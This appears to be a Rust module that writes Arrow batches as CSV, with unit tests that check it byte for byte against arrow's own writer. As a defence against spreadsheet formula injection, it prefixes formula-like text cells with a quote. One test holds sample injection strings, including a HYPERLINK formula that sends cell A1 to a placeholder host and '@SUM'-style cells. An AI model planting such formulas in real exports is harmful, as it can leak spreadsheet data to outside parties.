//! Batches as CSV bytes, the same bytes as arrow's CSV writer (dates ISO, nulls empty, fields
//! quoted only when they must be), about three times as fast, but for one thing: a text cell a
//! spreadsheet would take for a formula is prefixed with `'` ([`crate::escape::csv_text`]).
//! Every CSV hhq writes from Arrow (details, evidence, `hhq sql --format csv`) is written here.
//!
//! Why not arrow's writer: at a state's scale the detail is tens of millions of rows, and arrow
//! formats each cell through a dynamic formatter into a string that the `csv` crate then copies
//! and scans again, about 2 µs a row of 30 columns: most of a 1-million-member run's output
//! time. Here the common column types (strings, dates, integers, booleans) are written straight
//! into one buffer per batch, and every other type through arrow's own formatter, so the output
//! stays arrow's; a test compares the two byte for byte. A batch is formatted on its own, so a
//! run formats its batches on every core and writes them in order (see [`super::SpooledDetail`]).

use datafusion::arrow::array::{
    Array, AsArray, BooleanArray, Date32Array, GenericByteArray, PrimitiveArray, RecordBatch,
    StringViewArray,
};
use datafusion::arrow::datatypes::{
    ArrowPrimitiveType, ByteArrayType, DataType, Int8Type, Int16Type, Int32Type, Int64Type,
    LargeUtf8Type, UInt8Type, UInt16Type, UInt32Type, UInt64Type, Utf8Type,
};
use datafusion::arrow::error::ArrowError;
use datafusion::arrow::util::display::{ArrayFormatter, FormatOptions};

/// Days from 0001-01-01 (chrono's day 1 of the common era) to 1970-01-01.
const UNIX_EPOCH_FROM_CE: i32 = 719_163;

/// The header line: the column names, quoted as a field would be.
pub fn header(batch: &RecordBatch, out: &mut Vec<u8>) {
    let names: Vec<&str> = batch
        .schema_ref()
        .fields()
        .iter()
        .map(|f| f.name().as_str())
        .collect();
    for (i, name) in names.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        text_field(name.as_bytes(), out);
    }
    end_record(names.len(), names.iter().all(|n| n.is_empty()), out);
}

/// Append the rows of `batch` to `out`, one line each.
pub fn rows(batch: &RecordBatch, out: &mut Vec<u8>) -> Result<(), ArrowError> {
    let options = FormatOptions::default().with_null("");
    let columns = batch
        .columns()
        .iter()
        .map(|a| Column::new(a.as_ref(), &options))
        .collect::<Result<Vec<_>, _>>()?;
    let mut cell = String::new();
    for row in 0..batch.num_rows() {
        let start = out.len();
        for (i, column) in columns.iter().enumerate() {
            if i > 0 {
                out.push(b',');
            }
            column.write(row, out, &mut cell).map_err(|e| {
                ArrowError::CsvError(format!(
                    "Error processing row {}, col {}: {e}",
                    row + 1,
                    i + 1
                ))
            })?;
        }
        let empty = out.len() == start + columns.len().saturating_sub(1);
        end_record(columns.len(), empty, out);
    }
    Ok(())
}

/// The record terminator. A record of one empty field is written `""`, as the `csv` crate does,
/// so that it is not read as a blank line.
fn end_record(fields: usize, empty: bool, out: &mut Vec<u8>) {
    if fields <= 1 && empty {
        out.extend_from_slice(b"\"\"");
    }
    out.push(b'\n');
}

/// One field's bytes, quoted (and its quotes doubled) when it holds a comma, a quote or a line
/// break: the `csv` crate's `QuoteStyle::Necessary`.
fn field(bytes: &[u8], out: &mut Vec<u8>) {
    if bytes
        .iter()
        .any(|&b| matches!(b, b',' | b'"' | b'\n' | b'\r'))
    {
        out.push(b'"');
        for &b in bytes {
            if b == b'"' {
                out.push(b'"');
            }
            out.push(b);
        }
        out.push(b'"');
    } else {
        out.extend_from_slice(bytes);
    }
}

/// A text cell: [`field`], after a `'` when a spreadsheet would read it as a formula. Only text
/// goes through here: a number's sign is not a formula.
fn text_field(bytes: &[u8], out: &mut Vec<u8>) {
    match bytes.first() {
        Some(&b) if crate::escape::formula_start(b) => {
            // The cell begins with a quote now: only a comma, quote or line break quotes it.
            let mut cell = Vec::with_capacity(bytes.len() + 1);
            cell.push(b'\'');
            cell.extend_from_slice(bytes);
            field(&cell, out);
        }
        _ => field(bytes, out),
    }
}

/// A column, downcast once per batch.
enum Column<'a> {
    Utf8(&'a GenericByteArray<Utf8Type>),
    LargeUtf8(&'a GenericByteArray<LargeUtf8Type>),
    Utf8View(&'a StringViewArray),
    Date32(&'a Date32Array),
    Boolean(&'a BooleanArray),
    Int(Box<dyn IntColumn + 'a>),
    /// Any other type, through arrow's formatter.
    Other(ArrayFormatter<'a>),
}

impl<'a> Column<'a> {
    fn new(array: &'a dyn Array, options: &'a FormatOptions<'a>) -> Result<Self, ArrowError> {
        Ok(match array.data_type() {
            DataType::Utf8 => Column::Utf8(array.as_string::<i32>()),
            DataType::LargeUtf8 => Column::LargeUtf8(array.as_string::<i64>()),
            DataType::Utf8View => Column::Utf8View(array.as_string_view()),
            DataType::Date32 => Column::Date32(array.as_primitive()),
            DataType::Boolean => Column::Boolean(array.as_boolean()),
            DataType::Int8 => Column::Int(Box::new(array.as_primitive::<Int8Type>())),
            DataType::Int16 => Column::Int(Box::new(array.as_primitive::<Int16Type>())),
            DataType::Int32 => Column::Int(Box::new(array.as_primitive::<Int32Type>())),
            DataType::Int64 => Column::Int(Box::new(array.as_primitive::<Int64Type>())),
            DataType::UInt8 => Column::Int(Box::new(array.as_primitive::<UInt8Type>())),
            DataType::UInt16 => Column::Int(Box::new(array.as_primitive::<UInt16Type>())),
            DataType::UInt32 => Column::Int(Box::new(array.as_primitive::<UInt32Type>())),
            DataType::UInt64 => Column::Int(Box::new(array.as_primitive::<UInt64Type>())),
            t if t.is_nested() => {
                return Err(ArrowError::CsvError(format!(
                    "Nested type {t} is not supported in CSV"
                )));
            }
            _ => Column::Other(ArrayFormatter::try_new(array, options)?),
        })
    }

    /// Append row `row`'s field; `cell` is scratch space for arrow's formatter.
    fn write(&self, row: usize, out: &mut Vec<u8>, cell: &mut String) -> Result<(), ArrowError> {
        match self {
            Column::Utf8(a) => text(*a, row, out),
            Column::LargeUtf8(a) => text(*a, row, out),
            Column::Utf8View(a) => {
                if a.is_valid(row) {
                    text_field(a.value(row).as_bytes(), out);
                }
            }
            Column::Date32(a) => {
                if a.is_valid(row) && !date(a.value(row), out) {
                    // Outside years 0..=9999: arrow's own (signed, wider) form.
                    let f = ArrayFormatter::try_new(*a as &dyn Array, &FormatOptions::default())?;
                    cell.clear();
                    f.value(row).write(cell)?;
                    field(cell.as_bytes(), out);
                }
            }
            Column::Boolean(a) => {
                if a.is_valid(row) {
                    out.extend_from_slice(if a.value(row) { b"true" } else { b"false" });
                }
            }
            Column::Int(a) => a.write(row, out),
            Column::Other(f) => {
                cell.clear();
                f.value(row).write(cell)?;
                field(cell.as_bytes(), out);
            }
        }
        Ok(())
    }
}

fn text<T: ByteArrayType<Native = str>>(a: &GenericByteArray<T>, row: usize, out: &mut Vec<u8>) {
    if a.is_valid(row) {
        text_field(a.value(row).as_bytes(), out);
    }
}

/// An integer column of any width.
trait IntColumn {
    fn write(&self, row: usize, out: &mut Vec<u8>);
}

impl<T> IntColumn for &PrimitiveArray<T>
where
    T: ArrowPrimitiveType,
    T::Native: itoa::Integer,
{
    fn write(&self, row: usize, out: &mut Vec<u8>) {
        if self.is_valid(row) {
            out.extend_from_slice(itoa::Buffer::new().format(self.value(row)).as_bytes());
        }
    }
}

/// A date as `YYYY-MM-DD`; false (and nothing written) outside years 0 to 9999.
fn date(days_since_epoch: i32, out: &mut Vec<u8>) -> bool {
    use chrono::Datelike;
    let Some(d) = days_since_epoch
        .checked_add(UNIX_EPOCH_FROM_CE)
        .and_then(chrono::NaiveDate::from_num_days_from_ce_opt)
    else {
        return false;
    };
    let (y, m, day) = (d.year(), d.month(), d.day());
    if !(0..=9999).contains(&y) {
        return false;
    }
    let y = y as u32;
    out.extend_from_slice(&[
        b'0' + (y / 1000) as u8,
        b'0' + (y / 100 % 10) as u8,
        b'0' + (y / 10 % 10) as u8,
        b'0' + (y % 10) as u8,
        b'-',
        b'0' + (m / 10) as u8,
        b'0' + (m % 10) as u8,
        b'-',
        b'0' + (day / 10) as u8,
        b'0' + (day % 10) as u8,
    ]);
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use datafusion::arrow::array::{
        ArrayRef, Decimal128Array, Float64Array, Int32Array, Int64Array, LargeStringArray,
        StringArray, TimestampMillisecondArray, UInt16Array,
    };
    use std::sync::Arc;

    /// What arrow's CSV writer (header, dates ISO, nulls empty) makes of the batches.
    fn arrow_bytes(batches: &[RecordBatch]) -> Vec<u8> {
        let mut buf = Vec::new();
        {
            let mut w = datafusion::arrow::csv::WriterBuilder::new()
                .with_header(true)
                .build(&mut buf);
            for b in batches {
                w.write(b).unwrap();
            }
        }
        buf
    }

    fn ours(batches: &[RecordBatch]) -> Vec<u8> {
        let mut buf = Vec::new();
        header(&batches[0], &mut buf);
        for b in batches {
            rows(b, &mut buf).unwrap();
        }
        buf
    }

    fn batch(columns: Vec<(&str, ArrayRef)>) -> RecordBatch {
        RecordBatch::try_from_iter(columns).unwrap()
    }

    #[test]
    fn every_type_a_detail_holds_is_written_as_arrow_writes_it() {
        let strings = [
            Some("plain"),
            None,
            Some(""),
            Some("a, comma"),
            Some("a \"quote\""),
            Some("line\nbreak"),
            Some("cr\rhere"),
            Some("ünïcödé, ok"),
            Some("not continuously enrolled: 1 gap(s), longest 61 days"),
        ];
        let n = strings.len();
        let b = batch(vec![
            (
                "utf8",
                Arc::new(StringArray::from(strings.to_vec())) as ArrayRef,
            ),
            (
                "view",
                Arc::new(StringViewArray::from(strings.to_vec())) as ArrayRef,
            ),
            (
                "large",
                Arc::new(LargeStringArray::from(strings.to_vec())) as ArrayRef,
            ),
            (
                "date",
                Arc::new(Date32Array::from(vec![
                    Some(0),
                    None,
                    Some(20_089),
                    Some(-719_528),  // 0000-01-01
                    Some(-719_529),  // -0001-12-31
                    Some(2_932_896), // 9999-12-31
                    Some(2_932_897), // +10000-01-01
                    Some(-25_567),   // 1900-01-01
                    Some(-1),        // 1969-12-31
                ])),
            ),
            (
                "flag",
                Arc::new(BooleanArray::from(vec![
                    Some(true),
                    Some(false),
                    None,
                    Some(true),
                    Some(false),
                    None,
                    Some(true),
                    Some(true),
                    Some(false),
                ])),
            ),
            (
                "i32",
                Arc::new(Int32Array::from(vec![
                    Some(0),
                    Some(-1),
                    None,
                    Some(i32::MAX),
                    Some(i32::MIN),
                    Some(42),
                    Some(7),
                    None,
                    Some(100),
                ])),
            ),
            (
                "i64",
                Arc::new(Int64Array::from(vec![
                    Some(i64::MIN),
                    Some(i64::MAX),
                    None,
                    Some(0),
                    Some(-12),
                    Some(1),
                    Some(2),
                    Some(3),
                    Some(4),
                ])),
            ),
            (
                "u16",
                Arc::new(UInt16Array::from(vec![Some(65_535); n])) as ArrayRef,
            ),
            (
                "f64",
                Arc::new(Float64Array::from(vec![
                    Some(0.0),
                    Some(1.5),
                    None,
                    Some(-0.0),
                    Some(1e300),
                    Some(f64::NAN),
                    Some(f64::INFINITY),
                    Some(0.1 + 0.2),
                    Some(3.0),
                ])),
            ),
            (
                "decimal",
                Arc::new(
                    Decimal128Array::from(vec![Some(12_345); n])
                        .with_precision_and_scale(10, 2)
                        .unwrap(),
                ) as ArrayRef,
            ),
            (
                "at",
                Arc::new(TimestampMillisecondArray::from(vec![
                    Some(1_700_000_000_000);
                    n
                ])) as ArrayRef,
            ),
        ]);
        let expected = arrow_bytes(std::slice::from_ref(&b));
        assert_eq!(
            String::from_utf8(ours(&[b])).unwrap(),
            String::from_utf8(expected).unwrap()
        );
    }

    #[test]
    fn a_header_with_a_comma_and_a_lone_empty_field_are_quoted_as_arrow_quotes_them() {
        let b = batch(vec![(
            "a, b",
            Arc::new(StringArray::from(vec![Some(""), None, Some("x")])) as ArrayRef,
        )]);
        assert_eq!(ours(std::slice::from_ref(&b)), arrow_bytes(&[b]));
        let two = batch(vec![
            (
                "x",
                Arc::new(StringArray::from(vec![Some(""), None])) as ArrayRef,
            ),
            (
                "y",
                Arc::new(Int32Array::from(vec![None, None])) as ArrayRef,
            ),
        ]);
        assert_eq!(ours(std::slice::from_ref(&two)), arrow_bytes(&[two]));
    }

    #[test]
    fn text_a_spreadsheet_would_run_is_quoted_and_numbers_are_not() {
        let ids = [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")",
            "+1",
            "@SUM(A1:A9)",
            "-2+3",
            "\tx",
            "\rcmd",
            "M0001",
        ];
        let b = batch(vec![
            (
                "member_id",
                Arc::new(StringArray::from(ids.to_vec())) as ArrayRef,
            ),
            (
                "view",
                Arc::new(StringViewArray::from(ids.to_vec())) as ArrayRef,
            ),
            (
                "n",
                Arc::new(Int64Array::from(vec![-1, -2, 0, 3, -4, 5, 6])) as ArrayRef,
            ),
            (
                "x",
                Arc::new(Float64Array::from(vec![
                    -1.5, 0.0, 1.0, -0.25, 2.0, 3.0, 4.0,
                ])) as ArrayRef,
            ),
            (
                "=header",
                Arc::new(Int32Array::from(vec![-7; 7])) as ArrayRef,
            ),
        ]);
        let text = String::from_utf8(ours(&[b])).unwrap();
        assert_eq!(
            text,
            "member_id,view,n,x,'=header\n\
             \"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"see\"\")\",-1,-1.5,-7\n\
             '+1,'+1,-2,0.0,-7\n\
             '@SUM(A1:A9),'@SUM(A1:A9),0,1.0,-7\n\
             '-2+3,'-2+3,3,-0.25,-7\n\
             '\tx,'\tx,-4,2.0,-7\n\
             \"'\rcmd\",\"'\rcmd\",5,3.0,-7\n\
             M0001,M0001,6,4.0,-7\n"
        );
    }

    #[test]
    fn a_nested_column_is_refused_as_arrow_refuses_it() {
        let list =
            datafusion::arrow::array::ListArray::from_iter_primitive::<Int32Type, _, _>(vec![
                Some(vec![Some(1)]),
            ]);
        let b = batch(vec![("l", Arc::new(list) as ArrayRef)]);
        let e = rows(&b, &mut Vec::new()).unwrap_err();
        assert!(e.to_string().contains("Nested type"), "{e}");
    }
}
